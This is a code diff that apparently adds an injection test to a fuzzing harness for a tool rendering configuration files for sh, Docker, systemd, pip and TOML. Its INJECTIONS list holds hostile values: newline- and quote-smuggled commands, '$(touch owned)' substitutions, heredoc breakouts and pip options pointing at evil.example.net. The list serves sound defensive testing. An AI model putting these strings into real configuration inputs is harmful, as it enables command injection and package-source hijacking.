@@ -187,6 +187,61 @@ def argument_trial(seed):
         return "arguments", f"{[c[:60] for c in command]}, seed {seed}", fault or None
 
 
+# Settings that land in files: for sh, Docker, systemd, pip, TOML. A benign value and a hostile one of the same kind make files of the same lines.
+SETTINGS = {"server.environment": ("NAME=%s",), "image.packages": ("pandas==%s", "%s"), "database.flags": ("log_lock_waits=%s",), "server.extra_hosts": ("%s.example.com", "%s"),
+            "server.extra_origins": ("https://%s.example.com", "%s"), "auth.users": ("%s@example.com",), "auth.domains": ("%s.example.com", "%s"), "domain.host": ("%s.example.com",), "server.roles": ("roles/%s",),
+            "auth.client_id": ("%s-x.apps.googleusercontent.com", "%s"), "auth.service_accounts": ("%s@demo-proj.iam.gserviceaccount.com",), "image.mlflow_version": ("%s",), "auth.groups": ("%s@example.com",),
+            "project.id": ("%s",), "stack.name": ("%s",), "region": ("%s",), "database.tier": ("%s",)}
+INJECTIONS = ("a\nRUN touch owned", "a\nEVIL=1", "a'; touch owned; '", 'a"; touch owned; "', "$(touch owned)", "`touch owned`", "${HOME}", "$$x", "a\\", "a\\\nb", "a\rb", "{{project.id}}", "{{{x}}}", "%h%i", "a#b", "a: b", "- a",
+              "a\u2028b", "a b", "--index-url=https://evil.example.net", "-e git+https://evil.example.net/x", "a; python_version<'4'", "a @ https://evil.example.net/x.whl", "a]\nx=[", "a',\nb='", "a\x85b", "é", "\u202ea", "a,b",
+              "a&b|c>d", "~", "*", "!x", "\\x41", "a\tb", "EOF", "a\nEOF\ntouch owned\n", "=a", "a=b", "a\u2029runcmd: [touch owned]", " a", "a ", "\u3000a", "a\ufeff", "\u00a0")
+FREE = "server.environment"  # whose values may be any text: they must arrive as they are
+
+
+def rendered(home, answers, name, setting, value):
+    """(the run, file -> lines) of a render with the setting so."""
+    path, out = home.file(f"{name}.json"), home.file(name)
+    with open(answers, encoding="utf-8") as f:
+        whole = json.load(f)
+    whole["answers"][setting] = [value] if isinstance(whole["answers"].get(setting), list) or setting in ("server.environment", "image.packages", "database.flags", "auth.groups") else value
+    write(path, json.dumps(whole))
+    ended = judge.run(home, ["render", "--rehearse", path, "--out", out], env={"CLIENT_SECRET": SECRET}, patience=FAST)
+    return ended, {n: read(os.path.join(out, n)).decode().split("\n") for n in (os.listdir(out) if os.path.isdir(out) else ())}
+
+
+def environment_fault(home, files, value):
+    """What sh makes of server.env, where that is not the value."""
+    if "server.env" not in files:
+        return None
+    at = os.path.join(home.path, "hostile", "server.env")
+    sh = subprocess.run(["sh", "-c", '. "$1" && printf %s "$NAME"', "sh", at], capture_output=True, cwd=home.path, timeout=10, env={"PATH": os.environ["PATH"], "HOME": "/h"}, check=False)
+    return None if sh.stdout.decode() == value and not sh.returncode else f"sh reads {sh.stdout!r} {sh.stderr[:200]!r}, not {value!r}"
+
+
+def injection_trial(seed):
+    rnd = random.Random(f"injection {seed}")
+    setting, word, stack = rnd.choice(list(SETTINGS)), rnd.choice(INJECTIONS), rnd.choice(("cloud-run", "vm", "gke", "appengine", "cloud-run-mysql", "vm-internal"))
+    form = rnd.choice(SETTINGS[setting])
+    told = f"{setting} = {form % word!r}, {stack}, seed {seed}"
+    with Home() as home:
+        answers = example(home, stack)
+        ended, files = rendered(home, answers, "hostile", setting, form % word)
+        fault = judge.fault_of(ended)
+        if ended.code == 65 or fault:
+            return "injections", told, fault
+        if ended.code:
+            return "injections", told, f"neither refused nor rendered: {ended.tail()}"
+        good, plain = rendered(home, answers, "plain", setting, form % "abc")
+        if not good.code:
+            fault = next((f"{n} has {len(lines)} lines, not {len(plain.get(n, ()))}" for n, lines in files.items() if len(lines) != len(plain.get(n, ()))), None)
+        if setting == FREE:
+            fault = fault or environment_fault(home, files, word)
+        for name in [n for n in files if n.endswith(".sh")]:
+            checked = subprocess.run(["sh", "-n", os.path.join(home.path, "hostile", name)], capture_output=True, timeout=10, check=False)
+            fault = fault or (checked.returncode and f"{name} is no shell any more: {checked.stderr[:200]!r}")
+        return "injections", told, fault or (os.path.exists(home.file("owned")) and "it was run") or None
+
+
 # Descriptors, disks -------------------------------------------------------------------------------------------------------------------------------
 
 
@@ -275,7 +330,7 @@ def judge_full():
     return contextlib.suppress(OSError)
 
 
-TRIALS = {"files": (file_trial, 40), "variables": (variable_trial, 40), "arguments": (argument_trial, 30), "descriptors": (descriptor_trial, 12), "disks": (disk_trial, 2)}
+TRIALS = {"files": (file_trial, 40), "variables": (variable_trial, 40), "arguments": (argument_trial, 30), "injections": (injection_trial, 80), "descriptors": (descriptor_trial, 12), "disks": (disk_trial, 2)}
 
 
 def tried(trial, seed):
